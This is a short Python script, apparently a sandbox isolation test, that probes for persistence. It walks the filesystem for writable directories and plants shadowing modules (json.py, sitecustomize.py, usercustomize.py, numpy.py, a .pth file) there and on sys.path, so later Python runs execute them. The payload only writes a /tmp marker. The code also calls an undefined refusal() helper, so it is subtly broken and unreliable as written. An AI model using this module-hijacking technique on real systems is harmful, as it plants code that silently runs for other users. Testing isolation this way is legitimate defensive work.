"""Persistence: find every writable directory and drop modules a later
Python would import first (json.py, sitecustomize.py, usercustomize.py,
numpy.py, a .pth file), also in every sys.path entry and in PYTHONUSERBASE.
A second request (check_planted_module) must not see any of them."""
import os
import site
import sys

PAYLOAD = "open('/tmp/PWNED', 'w').write('planted module ran')\nPWNED = True\n"
NAMES = ("json.py", "sitecustomize.py", "usercustomize.py", "numpy.py", "zz_hostile.pth")


def writable_dirs():
    found = []
    for root, dirs, files in os.walk("/"):
        if root.startswith("/proc"):
            dirs[:] = []
            continue
        if os.access(root, os.W_OK):
            found.append(root)
    return found


def main():
    targets = set(writable_dirs()) | set(sys.path) | {site.getusersitepackages(), site.getuserbase()}
    planted, refused = [], {}
    for d in sorted(t for t in targets if t):
        try:
            os.makedirs(d, exist_ok=True)
        except OSError as e:
            refused[d] = refusal(e)
            continue
        for n in NAMES:
            p = os.path.join(d, n)
            try:
                with open(p, "w") as f:
                    f.write("import os; " + PAYLOAD if n.endswith(".pth") else PAYLOAD)
                planted.append(p)
            except OSError as e:
                refused[p] = refusal(e)
    return {"planted": planted, "refused": refused, "writable_dirs": writable_dirs()}
